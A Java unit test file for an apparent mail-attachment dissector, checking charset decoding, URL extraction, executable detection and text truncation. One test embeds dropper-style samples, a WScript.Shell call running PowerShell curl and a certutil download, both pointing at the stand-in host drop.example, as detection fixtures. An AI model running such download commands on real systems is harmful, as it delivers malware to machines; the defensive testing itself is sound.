package gyotaku.dissect.text;

import static org.assertj.core.api.Assertions.assertThat;

import gyotaku.dissect.Dissector;
import gyotaku.model.Limits;
import gyotaku.model.mail.Enclosure;
import gyotaku.model.mail.Opened;
import gyotaku.model.mail.Trait;
import gyotaku.model.mail.Words;
import gyotaku.model.mail.Written;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class TextReadersTest {

    private static Opened open(String name, byte[] bytes) {
        return new Dissector(Limits.standard()).open(new Enclosure(name, "", bytes, List.of()));
    }

    private static Opened open(String name, String text) {
        return open(name, text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> urls(Opened opened) {
        return opened.links().stream().map(Written::url).toList();
    }

    private static List<Trait.Kind> kinds(Opened opened) {
        return opened.traits().stream().map(Trait::kind).distinct().toList();
    }

    @Test
    void aTextSaysItsWordsAndUrlsInWhateverCharset() {
        String text = "ご案内です。詳しくは https://shop.example/sale をご覧ください。";
        Opened opened = open("案内.txt", text.getBytes(Charset.forName("windows-31j")));
        assertThat(opened.state()).isEqualTo(Opened.State.READ);
        assertThat(opened.texts()).containsExactly(new Words(Words.Origin.WRITTEN, "", text));
        assertThat(urls(opened)).containsExactly("https://shop.example/sale");
        assertThat(opened.traits()).isEmpty();
    }

    @Test
    void aScriptTellsWhatItStartsAndFetches() {
        Opened opened = open("a.js", """
                var s = new ActiveXObject("WScript.Shell");
                s.Run("powershell -c curl https://drop.example/x.bin");
                """);
        assertThat(kinds(opened)).contains(Trait.Kind.PROGRAM, Trait.Kind.COMMAND);
        assertThat(urls(opened)).contains("https://drop.example/x.bin");
        Opened batch = open("a.bat", "certutil -urlcache -f https://drop.example/y.exe y.exe\r\n");
        assertThat(kinds(batch)).contains(Trait.Kind.COMMAND);
        assertThat(urls(batch)).containsExactly("https://drop.example/y.exe");
    }

    @Test
    void aProgramThatIsCalledTextIsNoText() {
        byte[] program = new byte[300];
        program[0] = 'M';
        program[1] = 'Z';
        assertThat(open("a.txt", program).texts()).isEmpty();
    }

    @Test
    void aTextWithoutEndIsCut() {
        Opened opened = open("a.txt", "a b ".repeat(2 << 20));
        assertThat(opened.texts()).hasSize(1);
        assertThat(opened.texts().getFirst().text()).hasSize(Limits.standard().textBytes());
        assertThat(opened.truncated()).extracting(cut -> cut.limit()).containsExactly("textBytes");
    }
}
